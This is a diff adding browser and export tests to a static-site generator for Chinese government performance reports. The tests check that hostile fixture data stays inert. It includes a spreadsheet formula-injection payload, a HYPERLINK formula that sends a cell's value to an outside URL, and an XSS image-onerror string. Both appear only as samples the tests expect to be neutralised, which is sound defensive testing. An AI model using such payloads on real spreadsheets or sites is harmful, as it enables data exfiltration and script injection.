@@ -180,3 +180,66 @@ def test_search_results_show_hostile_text_literally(browser, hostile_site):
     assert "<img src=x onerror=alert(" in results.inner_text()
     assert dialogs == []
     page.close()
+
+
+def test_open_data_never_hands_a_spreadsheet_a_formula(hostile_site):
+    """The hostile region is =HYPERLINK(...): in every CSV it is text behind an apostrophe, in
+    the XLSX a text cell showing exactly the data; numbers stay numbers."""
+    import io
+
+    from openpyxl import load_workbook
+
+    from generator.spreadsheet import is_formula_like
+
+    site = hostile_site.path
+    region = '=HYPERLINK("http://example.com/?"&A1,"点击查看原文")'
+    for csv_file in [site / "data/reports.csv", site / "data/2021/hostile.csv", *site.glob("2021/*/chart-*.csv")]:
+        import csv as csvlib
+
+        rows = list(csvlib.reader(io.StringIO(csv_file.read_bytes().decode("utf-8-sig"))))
+        cells = [c for row in rows for c in row]
+        assert not [c for c in cells if is_formula_like(c)], csv_file
+    rows = list(csvlib.reader(io.StringIO((site / "data/reports.csv").read_bytes().decode("utf-8-sig"))))
+    assert rows[1][rows[0].index("地区")] == "'" + region
+    book = load_workbook(io.BytesIO((site / "data/reports.xlsx").read_bytes()))
+    sheet = book["报告"]
+    header = [c.value for c in sheet[1]]
+    cell = sheet.cell(row=2, column=header.index("地区") + 1)
+    assert cell.value == region and cell.data_type == "s" and cell.quotePrefix  # shown as is, never run
+    total = sheet.cell(row=2, column=header.index("本年财政拨款支出") + 1)
+    assert total.data_type == "n" and total.value == 100
+    assert not [c.coordinate for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
+
+
+def test_page_titles_come_from_the_data_and_stay_text(browser, hostile_site):
+    import yaml
+
+    data = yaml.safe_load((HOSTILE / "2021/hostile.yaml").read_text(encoding="utf-8"))
+    page = browser.new_page()
+    dialogs: list[str] = []
+    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+    page.goto(hostile_site.url + "2021/hostile/")
+    assert page.title() == f"{data['title']} - 绩效公开"  # the report's own title, never its file name
+    assert page.locator('meta[property="og:title"]').get_attribute("content") == data["title"]
+    assert data["department"]["name"] in page.locator('meta[name="description"]').get_attribute("content")
+    header = page.locator(".md-header__topic[data-md-component=header-topic]").inner_text()
+    assert data["title"].split(" ")[0] in header  # the header shows it as text
+    assert page.evaluate("document.querySelectorAll('head img, header img, header iframe').length") == 0
+    assert page.evaluate("[...document.querySelectorAll('head script, header script')].filter(s => s.text.includes('alert')).length") == 0
+    page.goto(hostile_site.url + "departments/hostile/")
+    assert page.title() == f"{data['department']['name']} - 绩效公开"
+    assert dialogs == []
+    page.close()
+
+
+def test_an_original_whose_name_holds_url_characters_downloads(browser, hostile_site):
+    page = browser.new_page()
+    page.goto(hostile_site.url + "2021/hostile/")
+    link = page.locator("a", has_text="原始文件")
+    href = link.get_attribute("href")
+    assert "#" not in href and "%23" in href and "%25" in href  # percent-encoded, not a fragment
+    from urllib.parse import urljoin
+
+    response = page.request.get(urljoin(page.url, href))
+    assert response.status == 200 and "恶意文件名测试" in response.text()
+    page.close()
